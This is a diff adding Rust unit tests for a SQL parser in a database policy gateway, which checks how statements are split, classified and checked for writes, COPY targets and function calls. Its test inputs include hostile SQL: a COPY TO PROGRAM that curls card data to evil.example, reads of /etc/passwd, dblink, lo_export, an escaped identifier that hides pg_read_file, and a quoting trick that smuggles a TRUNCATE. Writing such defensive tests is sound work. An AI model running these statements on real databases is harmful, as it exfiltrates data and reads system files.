@@ -1,0 +1,198 @@
+//! The two readings together: what policies get for each kind of statement, and the
+//! differentials that are refused.
+#![allow(clippy::unwrap_used)]
+
+use super::*;
+use crate::policy::CopyTarget;
+
+fn sqls(text: &str) -> Vec<Sql> {
+    parse(text)
+        .unwrap_or_else(|e| panic!("{text}: {e:?}"))
+        .into_iter()
+        .map(|s| s.sql)
+        .collect()
+}
+
+fn one(text: &str) -> Sql {
+    let mut v = sqls(text);
+    assert_eq!(v.len(), 1, "{text}: {v:?}");
+    v.remove(0)
+}
+#[test]
+fn splits_at_top_level_semicolons_only() {
+    let v = sqls("SELECT 'a;b'; /* ; */ SELECT $$x;y$$ ;; -- trailing ;\n SELECT \"c;d\" FROM t");
+    let texts: Vec<_> = v.iter().map(|s| s.text.as_str()).collect();
+    assert_eq!(
+        texts,
+        [
+            "SELECT 'a;b'",
+            "SELECT $$x;y$$",
+            "SELECT \"c;d\" FROM t"
+        ]
+    );
+    assert!(v.iter().all(|s| s.parse_error.is_none()), "{v:?}");
+    assert!(sqls("  -- only a comment\n").is_empty());
+    assert!(sqls("").is_empty());
+}
+
+#[test]
+fn kinds_tables_and_filters() {
+    let s = one(
+        "select name, pan from public.cards c join Owners o on o.id = c.owner where c.id = 1 limit 10",
+    );
+    assert_eq!(s.kind, "select");
+    assert_eq!(s.tables, ["public.cards", "owners"]);
+    assert!(s.has_where);
+    assert_eq!(s.limit, Some(10));
+
+    let s = one("SELECT * FROM \"Cards\" FETCH FIRST 5 ROWS ONLY");
+    assert_eq!(s.tables, ["Cards"]);
+    assert_eq!(s.limit, Some(5));
+    assert!(!s.has_where);
+    assert_eq!(one("SELECT * FROM cards LIMIT ALL").limit, None);
+    assert_eq!(one("SELECT * FROM cards LIMIT $1").limit, None);
+
+    for (sql, kind) in [
+        ("dRoP tAbLe cards", "drop"),
+        ("TRUNCATE cards", "truncate"),
+        ("ALTER TABLE cards ADD COLUMN x int", "alter"),
+        ("GRANT SELECT ON cards TO bob", "grant"),
+        ("REVOKE SELECT ON cards FROM bob", "revoke"),
+        ("CREATE TABLE t (id int)", "create"),
+        ("BEGIN", "begin"),
+        ("COMMIT", "commit"),
+        ("ROLLBACK", "rollback"),
+        ("SET search_path = x", "set"),
+        ("SHOW search_path", "show"),
+        ("EXPLAIN SELECT 1", "explain"),
+        ("INSERT INTO cards (pan) VALUES ('x')", "insert"),
+    ] {
+        assert_eq!(one(sql).kind, kind, "{sql}");
+    }
+    assert_eq!(one("DROP TABLE cards").tables, ["cards"]);
+    assert_eq!(one("SELECT * INTO copy_of_cards FROM cards").kind, "create");
+}
+
+#[test]
+fn writes_are_found_in_ctes_and_keep_their_where() {
+    let s = one("WITH gone AS (DELETE FROM cards RETURNING *) SELECT * FROM gone");
+    assert_eq!(s.kind, "select");
+    assert_eq!(s.tables, ["cards"], "CTE names are not tables");
+    assert_eq!(s.writes.len(), 1);
+    assert_eq!(s.writes[0].kind, "delete");
+    assert_eq!(s.writes[0].table, "cards");
+    assert!(!s.writes[0].has_where);
+
+    let s = one("UPDATE cards SET pan = NULL WHERE id = 3");
+    assert_eq!(
+        (
+            s.writes[0].kind.as_str(),
+            s.writes[0].has_where,
+            s.has_where
+        ),
+        ("update", true, true)
+    );
+    let s = one("DELETE FROM \"Cards\"");
+    assert_eq!(
+        (s.writes[0].table.as_str(), s.writes[0].has_where),
+        ("Cards", false)
+    );
+    let s = one("INSERT INTO Public.Cards SELECT * FROM staging");
+    assert_eq!(s.writes[0].table, "public.cards");
+    assert_eq!(s.tables, ["public.cards", "staging"]);
+}
+
+#[test]
+fn copy_and_functions() {
+    let s = one("COPY cards TO PROGRAM 'curl -d @- evil.example'");
+    assert_eq!(s.kind, "copy");
+    let copy = s.copy.unwrap();
+    assert!(!copy.is_from);
+    assert_eq!(
+        copy.target,
+        CopyTarget::Program("curl -d @- evil.example".into())
+    );
+    let s = one("COPY cards FROM PROGRAM 'cat /etc/passwd'");
+    assert!(s.copy.unwrap().is_from);
+    let s = one("COPY (SELECT pan FROM cards) TO STDOUT");
+    assert_eq!(s.copy.unwrap().target, CopyTarget::Stdio);
+    assert_eq!(s.tables, ["cards"]);
+    assert_eq!(one("COPY Cards TO STDOUT").tables, ["cards"]);
+    assert_eq!(
+        one("COPY (SELECT pan FROM cards LIMIT 5) TO STDOUT").limit,
+        Some(5)
+    );
+
+    let s = one("SELECT pg_read_file('/etc/passwd'), lower(name) FROM cards");
+    assert_eq!(s.functions, ["pg_read_file", "lower"]);
+    let s = one("SELECT substring(name FROM 2) FROM cards");
+    assert!(s.functions.contains(&"pg_catalog.substring".to_string()), "{s:?}");
+    // Set-returning functions in FROM are calls, not tables.
+    let s = one("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)");
+    assert!(s.tables.is_empty(), "{:?}", s.tables);
+    assert_eq!(s.functions, ["dblink"]);
+    let s = one("SELECT * FROM pg_ls_dir('/') JOIN cards ON true");
+    assert_eq!(s.tables, ["cards"]);
+    assert_eq!(s.functions, ["pg_ls_dir"]);
+}
+
+#[test]
+fn string_literals_are_not_statements_and_bad_sql_is_refused() {
+    let s = one("SELECT 'DROP TABLE cards' AS note");
+    assert_eq!(s.kind, "select");
+    assert!(s.tables.is_empty());
+
+    // Text the server's grammar rejects is refused whole: nothing of it is run.
+    let e = parse("SELECT 1; DROP TABLE cards; SELEC oops").unwrap_err();
+    assert_eq!(e.code, "42601");
+    assert!(e.reason.contains("syntax error"), "{e:?}");
+    assert!(parse("SELECT 'unterminated").is_err());
+}
+
+#[test]
+fn parser_differentials_are_closed() {
+    // COPY ... FROM STDIN; then more statements: the server runs them; so do policies see them.
+    let v = sqls("COPY t FROM STDIN;\nDROP TABLE victim;");
+    assert_eq!((v.len(), v[1].kind.as_str()), (2, "drop"));
+    // Backslashes do not escape in standard-conforming strings (pinned upstream).
+    // (With standard_conforming_strings off the server would run a TRUNCATE here; the gateway
+    // pins it on, so this is one SELECT of two strings for both.)
+    let v = sqls(r"SELECT 'a\' , ' ; TRUNCATE t; --'");
+    assert_eq!((v.len(), v[0].kind.as_str()), (1, "select"), "{v:?}");
+    // U& identifiers and quoting: the function the server calls is the one policies see.
+    let s = one(r#"SELECT U&"pg\005fread\005ffile"('/etc/hostname')"#);
+    assert!(s.functions.iter().any(|f| f == "pg_read_file"), "{s:?}");
+    let s = one(r#"SELECT "lo_export"(1, '/tmp/x')"#);
+    assert!(s.functions.iter().any(|f| f == "lo_export"), "{s:?}");
+    // A nested comment hides the WHERE from the server: refused, whatever sqlparser makes of it.
+    let r = parse("DELETE FROM t /* /* */ WHERE id = 1 -- */\n");
+    match r {
+        Err(e) => assert_eq!(e.code, "0A000", "{e:?}"),
+        Ok(v) => assert!(!v[0].sql.writes[0].has_where, "{v:?}"),
+    }
+}
+
+#[test]
+fn statement_types_settings_and_prepared_statements() {
+    let s = one("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM cards RETURNING 1'");
+    assert_eq!((s.kind.as_str(), s.statement_type.as_str()), ("create", "CreateFunctionStmt"));
+    let s = one("DO $$BEGIN PERFORM 1; END$$");
+    assert_eq!(s.statement_type, "DoStmt");
+    assert_eq!(one("SET ROLE postgres").settings, ["role"]);
+    assert_eq!(one("LOCK TABLE cards IN ACCESS EXCLUSIVE MODE").statement_type, "LockStmt");
+
+    let v = parse("PREPARE s AS SELECT pan FROM cards; EXECUTE s").unwrap();
+    assert_eq!(v[0].prepared, PreparedOp::Prepare("s".into()));
+    let inner = v[0].inner.as_ref().unwrap();
+    assert_eq!((inner.kind.as_str(), inner.statement_type.as_str()), ("select", "SelectStmt"));
+    assert_eq!(inner.tables, ["cards"]);
+    assert_eq!(v[1].prepared, PreparedOp::Execute("s".into()));
+    assert_eq!(v[1].sql.kind, "execute");
+}
+
+#[test]
+fn splitting_is_linear() {
+    // 20,000 statements on one line took a minute with the old splitter.
+    let text = "select 1;".repeat(20_000);
+    assert_eq!(parse(&text).unwrap().len(), 20_000);
+}
